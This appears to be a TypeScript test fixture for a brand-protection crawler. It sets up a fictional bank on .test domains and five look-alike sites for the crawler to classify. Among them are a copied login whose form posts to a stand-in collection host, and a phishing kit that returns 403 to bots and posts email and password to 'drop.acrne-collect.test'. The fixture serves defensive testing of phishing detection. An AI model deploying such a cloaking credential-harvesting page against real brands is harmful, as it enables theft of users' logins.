// A test brand, Acme Bank (acmebank.test), and look-alike domains of it of every kind a
// brand run judges, each a variant `vucrawl variants acmebank.test` lists: its login page
// copied in another colour and posting elsewhere (impersonating), a parking page, a
// defensive registration that redirects to the brand, an unrelated site, and a phishing kit
// that shows a login only to a person and 403 to a scanner (cloaking). The bank's logo
// (`acmeBankLogo`) is in its login's header, recoloured on the copy. The DNS records and
// registrations the test DNS and RDAP servers give them are here too, relative to a time.
// The unrelated site can be switched into a copy of the login, for a verdict that changes.
import { BOT_AGENT } from './cloaking-contexts.js';
import { bankLogin, NORTHBANK_ICON } from './phishing-copy.js';
import { bytes, doc, page, redirect, send } from '../respond.js';
import type { Handler, Scenario } from '../types.js';

const BANK = 'Acme Bank';
const DAY = 86_400_000;

/** The brand and each look-alike: its host, what a brand run should judge it, and its DNS and registration. */
export const ACME_BANK = {
  brand: 'acme-bank',
  official: 'acmebank.test',
  keyword: 'AcmePay',
  lookalikes: {
    impersonating: 'acmebamk.test',
    parked: 'acme-bank.test',
    defensive: 'acmebnak.test',
    unrelated: 'acmbank.test',
    cloaking: 'acrnebank.test',
  },
  /** Where the copy's form posts. */
  dropHost: 'collect.acme-verify.test',
} as const;

const L = ACME_BANK.lookalikes;

/** The records the test DNS server gives each name (every other name has none). */
export const ACME_BANK_DNS: Record<string, { A: string[]; NS?: string[]; MX?: string[] }> = {
  [ACME_BANK.official]: { A: ['127.0.0.1'], NS: ['ns1.acmebank.test'], MX: ['mail.acmebank.test'] },
  // A mail exchanger: set up to phish by mail as well.
  [L.impersonating]: { A: ['127.0.0.1'], MX: ['mx.acmebamk.test'] },
  // Delegated to a parking provider's name servers.
  [L.parked]: { A: ['127.0.0.1'], NS: ['ns1.sedoparking.com', 'ns2.sedoparking.com'] },
  [L.defensive]: { A: ['127.0.0.1'], NS: ['ns1.acmebank.test'] },
  [L.unrelated]: { A: ['127.0.0.1'] },
  [L.cloaking]: { A: ['127.0.0.1'] },
};

/** The registrations the test RDAP server gives the look-alikes, `now` being the run's time. */
export function acmeBankRegistrations(now: number): Record<string, { registrar: string; registered: string }> {
  const ago = (days: number) => new Date(now - days * DAY).toISOString();
  return {
    [L.impersonating]: { registrar: 'Cheap Names Inc.', registered: ago(3) },
    [L.parked]: { registrar: 'Sedo Registrar', registered: ago(700) },
    [L.defensive]: { registrar: 'Brand Guard Registrar', registered: ago(2000) },
    [L.unrelated]: { registrar: 'Garden Domains', registered: ago(3000) },
    [L.cloaking]: { registrar: 'Cheap Names Inc.', registered: ago(200) },
  };
}

export type AcmeUnrelatedVersion = 'unrelated' | 'impersonating';
let unrelatedVersion: AcmeUnrelatedVersion = 'unrelated';

/** What the unrelated look-alike serves from now on: its own site, or a copy of the bank's login. */
export function setAcmeUnrelated(v: AcmeUnrelatedVersion): void {
  unrelatedVersion = v;
}

/**
 * Acme Bank's logo in a colour (SVG): a mark and two bars, no text (no font to tell two
 * renderers apart), on an opaque ground, as `vucrawl brand add --logo` is given it in blue.
 */
export function acmeBankLogo(colour: string): Buffer {
  return Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="160" height="48" viewBox="0 0 160 48">
<rect width="160" height="48" fill="#fff"/>
<path d="M6 42 L24 6 L42 42 Z M18 34 L30 34 L24 22 Z" fill="${colour}" fill-rule="evenodd"/>
<rect x="52" y="10" width="96" height="10" fill="${colour}"/><rect x="52" y="28" width="64" height="10" fill="${colour}"/>
</svg>`);
}

/** The bank's colour (its logo's, as `brand add --logo` is given it). */
export const ACME_BANK_BLUE = '#0b4aa2';
const BLUE = ACME_BANK_BLUE;
const RED = '#b3261e';
const OFFICIAL_LOGIN = bankLogin(BLUE, '/', BANK, '/logo.svg');
const COPIED_LOGIN = bankLogin(RED, `http://${ACME_BANK.dropHost}/post`, BANK, '/logo.svg');
const svg = (body: Buffer) => bytes('image/svg+xml', body);
const OFFICIAL_LOGO = svg(acmeBankLogo(BLUE));
/** The copy's logo: the bank's, recoloured (as its page is). */
const COPIED_LOGO = svg(acmeBankLogo(RED));
/** The diary's own logo: a leaf. */
const LEAF = svg(
  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" viewBox="0 0 64 64">
<rect width="64" height="64" fill="#f1ead2"/><circle cx="32" cy="32" r="22" fill="#4f7a28"/><rect x="30" y="8" width="4" height="48" fill="#f1ead2"/>
</svg>`),
);

const GARDEN = page(
  'My allotment diary',
  `<header><a href="/"><img class="site-logo" src="/leaf.svg" alt="" width="64" height="64"></a></header>
<h1>Week 32: the courgettes have won</h1>
<div class="photo"></div>
<p>Three plants were a mistake. Recipes, in order of desperation, below.</p>
<ul><li>Courgette soup</li><li>Courgette cake</li><li>Courgette chutney</li></ul>`,
  `<style>
body { margin: 0 60px; font: 20px Georgia, serif; background: #2e3b1f; color: #f1ead2; }
.photo { height: 320px; background: linear-gradient(135deg, #d9a441, #7a9a3a); margin: 20px 0; }
</style>`,
);

const PARKED = page(
  L.parked,
  `<h1>${L.parked}</h1>
<p>This domain may be for sale. <a href="https://sedo.com/search/details/?domain=${L.parked}">Buy this domain</a></p>
<h2>Related searches</h2><ul><li>Online loans</li><li>Savings accounts</li><li>Credit cards</li></ul>`,
  '<style>body { margin: 80px; font: 18px Arial, sans-serif; background: #fff; color: #333; }</style>',
);

/** The kit: its login (no brand name: the kit is generic) to a person, 403 to anything that looks like a bot. */
const KIT: Handler = (req, res) => {
  const ua = String(req.headers['user-agent'] ?? '');
  if (BOT_AGENT.test(ua) || !req.headers['accept-language'])
    return send(res, 403, 'text/html; charset=utf-8', doc('403 Forbidden', '<h1>Forbidden</h1>'));
  page(
    'Sign in',
    `<h1>Sign in to continue</h1>
<form method="post" action="http://drop.acrne-collect.test/collect.php">
  <label>Email <input name="email" type="email"></label>
  <label>Password <input name="password" type="password"></label>
  <button>Sign in</button>
</form>`,
    // A kit's own look: nothing of the bank's page but the form.
    `<style>
body { margin: 0; padding: 120px 30%; font: 18px Verdana, sans-serif; background: #24143d; color: #efe6ff; }
form { display: grid; gap: 14px; } button { padding: 12px; background: #ffb000; border: 0; }
</style>`,
  )(req, res);
};

const icon = bytes('image/png', Buffer.concat([NORTHBANK_ICON, Buffer.from(' acme')]));

export const brandLookalikes: Scenario = {
  name: 'brand-lookalikes',
  seed: `http://${ACME_BANK.official}/`,
  routes: [
    { host: ACME_BANK.official, path: '/', handler: OFFICIAL_LOGIN },
    { host: ACME_BANK.official, path: '/favicon.ico', handler: icon },
    { host: ACME_BANK.official, path: '/logo.svg', handler: OFFICIAL_LOGO },
    { host: L.impersonating, path: '/', handler: COPIED_LOGIN },
    { host: L.impersonating, path: '/logo.svg', handler: COPIED_LOGO },
    // The copy serves the bank's icon byte for byte.
    { host: L.impersonating, path: '/favicon.ico', handler: icon },
    { host: L.parked, path: '/', handler: PARKED },
    { host: L.defensive, path: '/', handler: redirect(301, `http://${ACME_BANK.official}/`) },
    {
      host: L.unrelated,
      path: '/',
      handler: (req, res) => (unrelatedVersion === 'unrelated' ? GARDEN : COPIED_LOGIN)(req, res),
    },
    { host: L.unrelated, path: '/leaf.svg', handler: LEAF },
    // For its copy of the login.
    { host: L.unrelated, path: '/logo.svg', handler: COPIED_LOGO },
    { host: L.cloaking, path: '/', handler: KIT },
  ],
};

export const brandScenarios: Scenario[] = [brandLookalikes];
